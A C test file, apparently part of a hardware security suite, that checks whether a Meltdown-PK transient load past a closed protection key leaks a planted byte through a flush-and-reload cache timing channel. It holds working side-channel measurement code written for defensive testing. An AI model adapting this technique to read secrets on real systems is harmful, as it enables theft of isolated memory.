/* SPDX-License-Identifier: MIT */
#include <rt/bits.h>
#include <setjmp.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/mman.h>
#include <time.h>
#include <x86intrin.h>

/*
 * Attack 45, HOST4501: does a load behind a closed protection key leak what it would have
 * read?  The load faults; what it was followed by on the way may have left a line in the
 * cache that says which byte it was.  [Meltdown-PK]
 *
 * First a control: the same load from an open page has to be seen in the cache, or this
 * machine's clock tells nothing.  Ends with 0 and the finding in a line, for it is the
 * processor's and no test's fault; 77 and a line that begins with SKIP where nothing can be
 * found out; 1 when the key did not keep the load from completing at all.
 *
 * Where it leaks, keys do not keep secrets: backend=pt does (docs/caveats.md).
 */

#define STATUS_SKIP 77
#define BYTES 256u       /* that a byte can be */
#define LINE_BYTES 4096u /* apart, so that no prefetcher joins them */
#define ROUNDS 20000u
#define CONTROL_ROUNDS 2000u
#define CONTROL_SHARE 2u /* a half of the rounds at least have to show it */
#define CLOSED 1         /* PKEY_DISABLE_ACCESS */

static uint8_t *lines; /* one for each byte, first the threshold's own */
static uint64_t threshold;
static sigjmp_buf fault;
static volatile sig_atomic_t completed;

/* Rights are the kernel's default from here on: each round sets its own. */
static void fault_taken(int)
{
    siglongjmp(fault, 1);
}

static uint64_t line_time(uint32_t byte)
{
    unsigned int processor;
    _mm_mfence();
    uint64_t begin = __rdtscp(&processor);
    (void)*(volatile uint8_t *)&lines[(size_t)byte * LINE_BYTES];
    uint64_t end = __rdtscp(&processor);
    _mm_lfence();
    return end - begin;
}

/* Between what a line costs that is in the cache, and one that is not: the least of many, each. */
static uint64_t threshold_measure(void)
{
    uint64_t hit = UINT64_MAX, miss = UINT64_MAX;
    for (uint32_t i = 0; i < CONTROL_ROUNDS; i++) {
        (void)line_time(1);
        hit = u64_min(hit, line_time(1));
        _mm_clflush(&lines[LINE_BYTES]);
        miss = u64_min(miss, line_time(1));
    }
    return hit + (miss - hit) / 2;
}

/* The load, and what depends on it.  Nothing behind the load is ever done where it faults. */
[[gnu::noinline]] static void load_and_touch(const volatile uint8_t *secret)
{
    uint8_t byte = *secret;
    (void)*(volatile uint8_t *)&lines[(size_t)byte * LINE_BYTES];
    completed = 1;
}

/* Every other line is looked at, too, but in an order that no prefetcher sees through. */
static bool is_shown(uint8_t wanted)
{
    bool is_hit = false;
    for (uint32_t i = 0; i < BYTES; i++) {
        uint32_t byte = (i * 167 + 13) % BYTES;
        bool is_in_cache = line_time(byte) < threshold;
        is_hit |= byte == wanted && is_in_cache;
    }
    return is_hit;
}

/* In how many rounds the cache names the byte. */
static uint32_t rounds_run(const volatile uint8_t *secret, uint8_t wanted, uint32_t rounds, int key)
{
    uint32_t shown = 0;
    for (volatile uint32_t i = 0; i < rounds; i = i + 1) {
        for (uint32_t byte = 0; byte < BYTES; byte++)
            _mm_clflush(&lines[(size_t)byte * LINE_BYTES]);
        _mm_mfence();
        if (key >= 0)
            (void)pkey_set(key, CLOSED);
        if (sigsetjmp(fault, 1) == 0)
            load_and_touch(secret);
        shown += is_shown(wanted);
    }
    return shown;
}

static int skip(const char *why)
{
    printf("SKIP: HOST4501 %s\n", why);
    return STATUS_SKIP;
}

static void *pages_take(size_t bytes)
{
    void *pages = mmap(nullptr, bytes, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    return pages != MAP_FAILED ? pages : nullptr;
}

static int closed_run(uint8_t *secret, uint8_t byte)
{
    int key = pkey_alloc(0, 0);
    if (key < 0 || pkey_mprotect(secret, PAGE_BYTES, PROT_READ | PROT_WRITE, key) != 0)
        return skip("this processor, or its kernel, has no protection keys");
    completed = 0;
    uint32_t shown = rounds_run(secret, byte, ROUNDS, key);
    uint32_t other = rounds_run(secret, (uint8_t)(byte ^ 0x5A), ROUNDS, key);
    if (completed != 0) {
        printf("FAIL HOST4501 a load behind a closed key went through\n");
        return EXIT_FAILURE;
    }
    printf(
        "OK   HOST4501 a byte behind a closed key: in the cache in %u of %u rounds, another one in %u: %s\n",
        shown, ROUNDS, other, shown > other + ROUNDS / 100 ? "it LEAKS here" : "no leak seen");
    return EXIT_SUCCESS;
}

int main(void)
{
    struct sigaction action = { .sa_handler = fault_taken };
    uint8_t *secret = pages_take(PAGE_BYTES);
    lines = pages_take((size_t)BYTES * LINE_BYTES);
    if (secret == nullptr || lines == nullptr || sigaction(SIGSEGV, &action, nullptr) != 0)
        return skip("no memory, or no signals");
    for (size_t i = 0; i < (size_t)BYTES * LINE_BYTES; i += LINE_BYTES)
        lines[i] = 1; /* a frame of its own each */
    uint8_t byte = (uint8_t)(1 + time(nullptr) % (BYTES - 1));
    *secret = byte;
    threshold = threshold_measure();
    uint32_t shown = rounds_run(secret, byte, CONTROL_ROUNDS, -1);
    printf("control: an open byte was in the cache in %u of %u rounds\n", shown, CONTROL_ROUNDS);
    if (shown < CONTROL_ROUNDS / CONTROL_SHARE)
        return skip("the time of a load does not tell here what is in the cache");
    return closed_run(secret, byte);
}
